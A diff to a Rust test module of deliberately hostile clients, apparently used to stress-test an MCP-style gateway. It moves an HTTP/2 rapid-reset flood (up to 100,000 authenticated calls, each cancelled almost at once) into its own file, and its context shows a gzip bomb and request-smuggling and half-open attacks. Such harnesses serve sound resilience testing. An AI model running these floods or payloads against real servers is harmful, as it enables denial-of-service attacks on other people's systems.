@@ -1,19 +1,19 @@
 //! Clients that mean harm. Each runs until it is stopped and says what it was answered.
 
+#[path = "resets.rs"]
+pub mod resets;
+
 use std::collections::BTreeMap;
 use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
-use bytes::Bytes;
-use http_body_util::Full;
-use hyper::client::conn::http2;
-use hyper_util::rt::{TokioExecutor, TokioIo};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::{TcpSocket, TcpStream};
 use tokio::task::JoinSet;
 use tokio::time::{sleep, timeout};
 
+const CALL: &str = r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"run","arguments":{}}}"#;
 /// How long an attacker waits for an answer before it says that there is none.
 const PATIENCE: Duration = Duration::from_secs(20);
 
@@ -136,7 +136,7 @@ pub const ATTACKS: [Attack; 9] = [
         8,
         One::Resets,
         &["closed"],
-        "8 HTTP/2 connections, calls taken back as soon as they are sent",
+        "8 HTTP/2 connections in a loop, calls taken back as soon as they are sent, 100 with each write",
     ),
     attack(
         "bomb",
@@ -211,7 +211,7 @@ impl One {
             }
             Self::HalfOpen => half(stream, aim).await,
             Self::Smuggled => smuggled(stream, aim).await,
-            Self::Resets => resets(stream, aim).await,
+            Self::Resets => resets::rapid(stream, aim).await,
             Self::Bomb => {
                 // a member of gzip whose deflate stream repeats one byte; nobody should ever read it
                 let body = [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3][..], &[0xed; 100_000]].concat();
@@ -336,29 +336,4 @@ async fn smuggled(mut stream: TcpStream, aim: &Aim) -> String {
         1 => text.split(' ').nth(1).unwrap_or("garbage").to_owned(),
         count => format!("{count} answers"),
     }
-}
-
-async fn resets(stream: TcpStream, aim: &Aim) -> String {
-    let handshake = http2::handshake::<_, _, Full<Bytes>>(TokioExecutor::new(), TokioIo::new(stream));
-    let Ok(Ok((sender, connection))) = timeout(PATIENCE, handshake).await else {
-        return "closed".to_owned();
-    };
-    let connection = tokio::spawn(connection);
-    let body = r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"run","arguments":{}}}"#;
-    for _ in 0..100_000 {
-        let mut sender = sender.clone();
-        let request = http::Request::post(format!("http://{}/mcp/s", aim.gate))
-            .header("authorization", format!("Bearer {}", aim.token))
-            .header("content-type", "application/json")
-            .body(Full::new(Bytes::from_static(body.as_bytes())))
-            .unwrap();
-        // sent, and taken back
-        let _ = timeout(Duration::from_millis(1), sender.send_request(request)).await;
-        if sender.is_closed() {
-            connection.abort();
-            return "closed".to_owned();
-        }
-    }
-    connection.abort();
-    "served".to_owned()
 }
